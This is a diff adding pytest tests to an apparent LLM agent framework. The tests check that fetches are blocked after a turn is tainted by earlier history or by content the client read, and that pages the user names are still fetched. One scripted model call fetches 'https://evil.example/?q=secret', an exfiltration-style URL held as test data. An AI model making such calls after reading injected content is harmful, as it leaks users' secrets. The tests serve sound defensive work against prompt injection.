@@ -396,6 +396,26 @@ async def test_an_injected_page_cannot_call_what_the_run_was_not_allowed() -> No
     assert any(call.untrusted for call in turn.transcript.tool_calls)
 
 
+@pytest.mark.parametrize("how", ["history", "client"])
+async def test_what_was_read_in_an_earlier_turn_or_by_the_client_taints_this_one(how: str) -> None:
+    model = Model(asks(("fetch_url", '{"url": "https://evil.example/?q=secret"}')), [token("no")])
+    tools = Tools(FETCH, fetch_url=Outcome("page", untrusted=True))
+    said = [ChatMessage("user", "hola"), ChatMessage("tool", "fetch https://evil.example", {"tool_call_id": "1"})]
+    turn, _, _ = turn_with(model, *(said if how == "client" else said[:1]), tools=tools)
+    turn = replace(turn, request=replace(turn.request, tainted=how == "history"))
+    await converse(turn, PlainSteps())
+    assert not tools.calls and turn.transcript.tool_calls[0].error["code"] == "tool_not_allowed"  # type: ignore[index]
+
+
+async def test_the_page_that_the_user_names_is_read_all_the_same() -> None:
+    model = Model(asks(("fetch_url", '{"url": "https://example.org/next"}')), [token("read")])
+    tools = Tools(FETCH, fetch_url=Outcome("page", untrusted=True))
+    turn, _, _ = turn_with(model, ChatMessage("user", "now read https://example.org/next"), tools=tools)
+    turn = replace(turn, request=replace(turn.request, tainted=True))
+    await converse(turn, PlainSteps())
+    assert [call.name for call in tools.calls] == ["fetch_url"]
+
+
 async def test_named_tools_may_act_even_then() -> None:
     model = Model(asks(("fetch_url", "{}")), asks(("send", "{}")), [token("done")])
     tools = Tools(FETCH, SEND, fetch_url=Outcome("page", untrusted=True), send=Outcome("sent"))
